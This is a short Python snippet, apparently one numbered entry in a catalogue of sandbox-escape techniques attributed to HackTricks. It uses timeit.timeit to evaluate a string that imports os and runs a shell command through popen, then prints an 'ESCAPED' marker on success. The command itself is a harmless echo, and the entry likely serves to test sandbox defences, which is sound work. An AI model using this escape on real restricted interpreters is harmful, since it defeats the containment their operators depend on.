# escape: 024
# technique: timeit runs a string as code in a trusted frame
# family: deval
# goal: exec
# first-seen: HackTricks
import timeit
r = []
timeit.timeit("r.append(__import__('os').popen('echo ti').read())", number=1, globals={'r': r})
if r == ['ti\n']: print('ESCAPED:timeit')
